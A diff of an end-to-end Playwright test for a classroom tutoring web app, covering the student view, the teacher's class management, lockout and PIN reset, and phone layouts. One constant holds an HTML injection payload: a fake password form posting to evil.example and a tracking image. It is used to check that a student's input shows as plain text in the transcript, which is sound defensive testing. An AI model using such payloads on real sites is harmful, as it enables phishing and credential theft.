@@ -1,177 +1,215 @@
-"""End to end in Debian's chromium (Playwright, headless): a teacher creates a class and a
-student; the student logs in, gets an exercise, answers wrong, asks for a hint, answers right
-and sees mastery rise; the teacher sees the attempt in the heatmap and the transcript.
+"""A classroom in Debian's chromium (Playwright, headless), as a teacher and students see it
+at 1366x900 and on a 390x844 phone.
 
-Screenshots of both views are written to `docs/` (shown in the README) when
-TUTOR_UPDATE_SCREENSHOTS=1, else to a temp folder so a test run leaves the tree clean.
-Without chromium or Playwright the test skips, unless TUTOR_REQUIRE_BROWSER=1 (CI): it fails.
+Student: the answer box is focused and named after login; Enter in an empty box says so and
+keeps the chat and the open question (no "Error" badges); the open question is pinned and
+comes back after a reload, with the chosen explanation style and a numeric chart axis.
+Teacher: the class is open after login and lists students who have not started; a bad input
+is said in the status line; accented and non-Latin names get readable logins that work; a
+locked-out student is unlocked and gets a new PIN; HTML a student typed is plain text in the
+transcript; a deleted student leaves the dropdown; assignments say to whom and can be
+removed; the heatmap scrolls on a phone.
+
+Screenshots go to `docs/` (shown in the README) when TUTOR_UPDATE_SCREENSHOTS=1, else to a
+temp folder so a test run leaves the tree clean.
 """
 
 from __future__ import annotations
 
-import os
 import re
-import shutil
-from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
+import httpx
 import pytest
 
 import students_db as db
+from tests.browser_helpers import (
+    DESKTOP,
+    PHONE,
+    WAIT_MS,
+    bot_count,
+    browser,
+    error_badges,
+    log_in,
+    screenshots_dir,
+    settle,
+    wait_for_reply,
+)
 from tests.fixtures.app_server import AppServer
 
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
+__all__ = ["browser"]
 
-CHROMIUM = "/usr/bin/chromium"
-CHROMIUM_ARGS = [
-    "--headless",
-    "--no-sandbox",
-    "--disable-gpu",
-    "--disable-background-networking",
-    "--disable-component-update",
-    "--disable-sync",
-    "--no-first-run",
-]
-DOCS = Path(__file__).resolve().parent.parent / "docs"
-WAIT_MS = 60_000
-
-
-def _missing_browser(reason: str) -> None:
-    if os.environ.get("TUTOR_REQUIRE_BROWSER") == "1":
-        pytest.fail(f"TUTOR_REQUIRE_BROWSER=1 but {reason}")
-    pytest.skip(reason)
-
-
-@pytest.fixture(scope="module")
-def browser() -> Iterator[Any]:
-    try:
-        from playwright.sync_api import sync_playwright
-    except ImportError:
-        _missing_browser("the playwright package is not installed")
-    if not (Path(CHROMIUM).exists() or shutil.which("chromium")):
-        _missing_browser(f"no chromium at {CHROMIUM}")
-    with sync_playwright() as playwright:
-        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
-        try:
-            yield launched
-        finally:
-            launched.close()
-
-
-def log_in(browser: Any, url: str, username: str, password: str) -> Any:
-    page = browser.new_page(viewport={"width": 1280, "height": 900})
-    page.set_default_timeout(WAIT_MS)
-    page.goto(url)
-    page.locator("input[type=text]").first.fill(username)
-    page.locator("input[type=password]").first.fill(password)
-    page.get_by_role("button", name=re.compile("login", re.I)).click()
-    page.get_by_text("Logged in as").wait_for()
-    return page
-
-
-def chat_text(page: Any) -> str:
-    return page.locator("#student-chat").inner_text()
-
-
-def wait_for_reply(page: Any, count_before: int) -> None:
-    """Wait until the chat holds a new, finished tutor message."""
-    page.wait_for_function(
-        """n => document.querySelectorAll('#student-chat .bot').length > n""",
-        arg=count_before,
-    )
-    page.wait_for_function(
-        "() => !document.querySelector('#student-chat .generating') && "
-        "!document.querySelector('.progress-text')"
-    )
-    page.wait_for_timeout(500)
-
-
-def bot_count(page: Any) -> int:
-    return page.locator("#student-chat .bot").count()
-
-
-def mastery_of(page: Any) -> int:
-    text = page.locator("#student-progress").inner_text()
-    found = re.findall(r"(\d+)%", text)
-    assert found, text
-    return max(int(v) for v in found)
+HOSTILE = (
+    '<form action="https://evil.example/steal"><input name="pw">'
+    "<button>Re-enter your password</button></form>"
+    '<img src="https://evil.example/track.png">'
+)
 
 
 def answer_of(server: AppServer, student_id: int) -> str:
     with db.read_session(server.sessions) as session:
         active = db.get_active_exercise(session=session, student_id=student_id)
     assert active is not None
-    return server.pack.exercise_by_id(active.exercise_id, active.seed).answer_text
+    return str(server.pack.exercise_by_id(active.exercise_id, active.seed).answer_text)
 
 
-def test_a_class_in_the_browser(browser: Any, app_server: AppServer, tmp_path: Path) -> None:
+def choose(page: Any, dropdown_id: str, option: str) -> None:
+    page.locator(f"#{dropdown_id} input").click()
+    page.get_by_role("option", name=re.compile(re.escape(option))).first.click()
+    settle(page)
+
+
+def fits_width(page: Any) -> bool:
+    return bool(
+        page.evaluate("() => document.scrollingElement.scrollWidth <= window.innerWidth + 1")
+    )
+
+
+def send(page: Any, text: str) -> None:
+    box = page.locator("#student-message textarea")
+    before = bot_count(page)
+    box.fill(text)
+    box.press("Enter")
+    wait_for_reply(page, before)
+
+
+def test_the_student_view_keeps_its_state(
+    browser: Any, template_app_server: AppServer, tmp_path: Path
+) -> None:
     from playwright.sync_api import expect
 
-    shots = DOCS if os.environ.get("TUTOR_UPDATE_SCREENSHOTS") == "1" else tmp_path
-    shots.mkdir(exist_ok=True)
-    teacher = log_in(browser, app_server.url, *app_server.teacher)
-    teacher.locator("#new-class-name textarea, #new-class-name input").first.fill("Browser class")
-    teacher.locator("#btn-create-class").click()
-    expect(teacher.locator("#teacher-status")).to_contain_text("Browser class", timeout=WAIT_MS)
-    teacher.locator("#student-names textarea").fill("Zoe Park")
+    server = template_app_server
+    shots = screenshots_dir(tmp_path)
+    page = log_in(browser, server.url, *server.students[0])
+    focused = page.evaluate("() => document.activeElement.closest('#student-message') !== null")
+    assert focused, "the answer box is focused after login"
+    assert page.get_by_role("textbox", name="Your answer or question").count() == 1
+
+    page.locator("#student-message textarea").press("Enter")  # nothing typed
+    expect(page.locator("#student-note")).to_contain_text("Type an answer", timeout=WAIT_MS)
+    assert error_badges(page) == 0
+    expect(page.locator("#student-chat")).to_be_visible()
+    expect(page.locator("#open-question")).to_contain_text("No open question")
+
+    before = bot_count(page)
+    page.locator("#btn-new-exercise").click()
+    wait_for_reply(page, before)
+    expect(page.locator("#open-question")).to_contain_text("Your question:", timeout=WAIT_MS)
+    question = page.locator("#open-question").inner_text()
+    send(page, "-99999")
+    page.get_by_role("radio", name="short").check()
+    expect(page.locator("#style-note")).to_contain_text("short", timeout=WAIT_MS)
+    settle(page)
+    page.screenshot(path=str(shots / "student_view.png"), full_page=True)
+
+    page.reload()  # as after logging in again
+    page.get_by_text("Logged in as").wait_for()
+    settle(page)
+    expect(page.locator("#open-question")).to_have_text(question, timeout=WAIT_MS)
+    assert page.get_by_role("radio", name="short").is_checked()
+    y_axis = page.locator("#mastery-chart g.role-axis[aria-label^='Y-axis']")
+    expect(y_axis).to_have_attribute("aria-label", re.compile("linear scale"), timeout=WAIT_MS)
+
+    phone = log_in(browser, server.url, *server.students[0], viewport=PHONE)
+    expect(phone.locator("#open-question")).to_have_text(question, timeout=WAIT_MS)
+    assert fits_width(phone)
+    phone.screenshot(path=str(shots / "student_phone.png"), full_page=True)
+
+
+def test_the_teacher_runs_a_class(
+    browser: Any, template_app_server: AppServer, tmp_path: Path
+) -> None:
+    from playwright.sync_api import expect
+
+    server = template_app_server
+    shots = screenshots_dir(tmp_path)
+    teacher = log_in(browser, server.url, *server.teacher, viewport=DESKTOP)
+    expect(teacher.locator("#teacher-class input")).to_have_value(re.compile("Year 6"))
+
+    teacher.locator("#btn-create-class").click()  # no name typed
+    expect(teacher.locator("#teacher-status")).to_contain_text("Type a name", timeout=WAIT_MS)
+    assert error_badges(teacher) == 0
+    expect(teacher.locator("#new-class-name input, #new-class-name textarea")).to_be_visible()
+
+    teacher.locator("#student-names textarea").fill("Zoë Brontë\n李明\nJosé Núñez")
     teacher.locator("#btn-add-students").click()
-    expect(teacher.locator("#new-logins")).to_contain_text("Zoe Park", timeout=WAIT_MS)
-    logins = teacher.locator("#new-logins").inner_text()
-    login = re.search(r"([A-Za-z0-9-]+/zoe\.park)", logins)
-    pin = re.search(r"\b(\d{6})\b", logins)
-    assert login and pin, logins
+    table = teacher.locator("#new-logins-table")
+    expect(table).to_contain_text("zoe.bronte", timeout=WAIT_MS)
+    logins = {
+        cells[0]: (cells[2], cells[1])
+        for row in table.locator("tbody tr").all()
+        if (cells := row.locator("td").all_inner_texts())
+    }
+    assert [login.split("/")[1] for login, _pin in logins.values()] == [
+        "zoe.bronte",
+        "student.1",
+        "jose.nunez",
+    ]
+    link = teacher.locator("#logins-download a")
+    assert re.fullmatch(r"logins-year-6-\d{4}-\d\d-\d\d\.csv", link.get_attribute("download"))
+    assert link.get_attribute("href").startswith("data:text/csv")
 
-    student = log_in(browser, app_server.url, login.group(1), pin.group(1))
-    with db.read_session(app_server.sessions) as session:
-        code, name = login.group(1).split("/")
-        student_id = db.get_student_login(session=session, join_code=code, login_name=name).id
-    before = bot_count(student)
-    student.locator("#btn-new-exercise").click()
-    wait_for_reply(student, before)
-    right = answer_of(app_server, student_id)
-    wrong = "-99999" if right != "-99999" else "12345"
+    zoe = log_in(browser, server.url, *logins["Zoë Brontë"])
+    send(zoe, HOSTILE)
 
-    box = student.locator("#student-message textarea")
-    before = bot_count(student)
-    box.fill(wrong)
-    box.press("Enter")
-    wait_for_reply(student, before)
-    student.get_by_text(wrong).first.wait_for()
-    student.wait_for_function(
-        "() => /\\d+%/.test(document.querySelector('#student-progress').innerText)"
-    )
-    after_wrong = mastery_of(student)
+    jose_login, _jose_pin = logins["José Núñez"]
+    with httpx.Client(base_url=server.url) as http:
+        for _ in range(5):
+            http.post("login", data={"username": jose_login, "password": "wrong-pin"})
 
-    before = bot_count(student)
-    student.locator("#btn-hint").click()
-    wait_for_reply(student, before)
-    assert "Hint, please." in chat_text(student)
-
-    before = bot_count(student)
-    box.fill(right)
-    box.press("Enter")
-    wait_for_reply(student, before)
-    student.wait_for_function(
-        "n => { const m = document.querySelector('#student-progress').innerText.match(/\\d+%/g);"
-        " return m && Math.max(...m.map(v => parseInt(v))) > n; }",
-        arg=after_wrong,
-    )
-    assert mastery_of(student) > after_wrong
-    student.screenshot(path=str(shots / "student_view.png"), full_page=True)
-
-    teacher.reload()
-    teacher.get_by_text("Logged in as").wait_for()
-    teacher.locator("#teacher-class input").click()
-    teacher.get_by_role("option", name=re.compile("Browser class")).click()
-    teacher.get_by_role("tab", name="Class progress").click()
+    teacher.get_by_role("tab", name="Progress").click()
     heatmap = teacher.locator("#mastery-heatmap")
-    heatmap.get_by_text("Zoe Park").first.wait_for()
-    assert re.search(r"\d+%", heatmap.inner_text())
+    expect(heatmap).to_contain_text("not started yet", timeout=WAIT_MS)
+    expect(heatmap).to_contain_text("Ada")
     teacher.screenshot(path=str(shots / "teacher_view.png"), full_page=True)
-    teacher.get_by_role("tab", name="A student").click()
-    teacher.locator("#teacher-student input").click()
-    teacher.get_by_role("option", name=re.compile("Zoe Park")).click()
-    teacher.locator("#transcript").get_by_text(wrong).first.wait_for()
-    teacher.locator("#timeline").get_by_text(wrong).first.wait_for()
+
+    teacher.get_by_role("tab", name="One student").click()
+    choose(teacher, "teacher-student", "Zoë Brontë")
+    transcript = teacher.locator("#transcript")
+    expect(transcript).to_contain_text('<form action="https://evil.example/steal">')
+    assert transcript.locator("form, img, input, button").count() == 0  # text, not markup
+
+    choose(teacher, "teacher-student", "José Núñez")
+    expect(teacher.locator("#student-lock")).to_contain_text("locked", timeout=WAIT_MS)
+    teacher.locator("#btn-unlock").click()
+    expect(teacher.locator("#teacher-status")).to_contain_text("Unlocked", timeout=WAIT_MS)
+    teacher.locator("#btn-reset-pin").click()
+    expect(teacher.locator("#new-pin")).to_contain_text("New PIN", timeout=WAIT_MS)
+    new_pin = teacher.locator("#new-pin .pin").inner_text()
+    log_in(browser, server.url, jose_login, new_pin)  # the new PIN works
     teacher.screenshot(path=str(shots / "teacher_student.png"), full_page=True)
+
+    choose(teacher, "teacher-student", "Zoë Brontë")
+    confirm = teacher.locator("#delete-confirm textarea, #delete-confirm input").first
+    confirm.fill("zoe")
+    teacher.locator("#btn-delete-student").click()
+    expect(teacher.locator("#teacher-status")).to_contain_text("Type zoe.bronte", timeout=WAIT_MS)
+    assert error_badges(teacher) == 0
+    confirm.fill("zoe.bronte")
+    teacher.locator("#btn-delete-student").click()
+    expect(teacher.locator("#teacher-status")).to_contain_text("Deleted", timeout=WAIT_MS)
+    teacher.locator("#teacher-student input").click()
+    assert teacher.get_by_role("option", name=re.compile("Zoë")).count() == 0
+    teacher.keyboard.press("Escape")
+
+    teacher.get_by_role("tab", name="Assign").click()
+    skill = next(iter(server.pack.skills.values())).name
+    choose(teacher, "assign-skill", skill)
+    teacher.locator("#btn-assign").click()
+    expect(teacher.locator("#teacher-status")).to_contain_text(
+        f"Assigned {skill} to the whole class Year 6", timeout=WAIT_MS
+    )
+    expect(teacher.locator("#assignments")).to_contain_text("the whole class")
+    choose(teacher, "assignment-remove", skill)
+    teacher.locator("#btn-unassign").click()
+    expect(teacher.locator("#assignments")).to_contain_text("No assignments", timeout=WAIT_MS)
+
+    phone = log_in(browser, server.url, *server.teacher, viewport=PHONE)
+    phone.get_by_role("tab", name="Progress").click()
+    region = phone.locator(".tutor-scroll").first
+    expect(region).to_be_visible(timeout=WAIT_MS)
+    assert region.evaluate("e => getComputedStyle(e).overflowX") == "auto"
+    assert fits_width(phone)
+    phone.screenshot(path=str(shots / "teacher_phone.png"), full_page=True)
